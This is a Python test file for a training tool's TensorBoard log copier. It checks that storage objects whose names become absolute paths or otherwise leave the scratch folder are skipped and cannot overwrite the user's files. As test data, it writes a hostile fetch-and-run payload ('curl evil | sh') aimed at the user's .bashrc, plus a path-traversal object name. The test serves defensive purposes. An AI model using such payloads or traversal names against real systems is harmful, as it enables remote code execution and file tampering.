"""`vertex-trainer tensorboard JOB` for a sandbox job copies its gs://.../logs/ objects out of the
storage emulator into a scratch folder (performance/tensorboard_server.py `copy_prefix`). An
object's name is any text: `logs//ABSOLUTE/PATH` is "/ABSOLUTE/PATH" once the prefix is cut, and
`scratch / "/x"` is /x, so an object written by the job (or whoever could write the bucket) would
overwrite any file of yours. Only names that stay below the scratch folder are copied; the rest,
and an object whose name is also a folder of others, are skipped, never a traceback."""

from __future__ import annotations

from tests.shared import put_object, storage_emulator
from vertex_trainer.performance.tensorboard_server import copy_prefix
from vertex_trainer.settings import Settings

LOGS = "gs://sandbox/runs/r1/logs"


def test_objects_whose_names_leave_the_folder_are_not_copied(tmp_path):
    victim = tmp_path / "home" / "you" / ".bashrc"
    victim.parent.mkdir(parents=True)
    victim.write_text("alias ls='ls --color'\n")
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    hostile = {
        f"/{victim}": b"curl evil | sh",  # an absolute path once the prefix is cut
        "train//events.out.tfevents.2": b"empty segment",
        "sub": b"an object that is also a folder",
        "sub/events.out.tfevents.3": b"e3",
    }
    with storage_emulator("sandbox") as url:
        put_object(url, f"{LOGS}/train/events.out.tfevents.1", b"e1")
        for name, data in hostile.items():
            put_object(url, f"{LOGS}/{name}", data)
        copied = copy_prefix(Settings(storage_emulator=url), LOGS, scratch)
    assert victim.read_text() == "alias ls='ls --color'\n"
    files = {str(p.relative_to(scratch)): p.read_bytes() for p in scratch.rglob("*") if p.is_file()}
    # `sub` is listed (and copied) first: the object under it, which needs `sub` a folder, is skipped
    assert files == {"train/events.out.tfevents.1": b"e1", "sub": b"an object that is also a folder"}
    assert copied == 2
    assert sorted(p.name for p in tmp_path.iterdir()) == ["home", "scratch"]
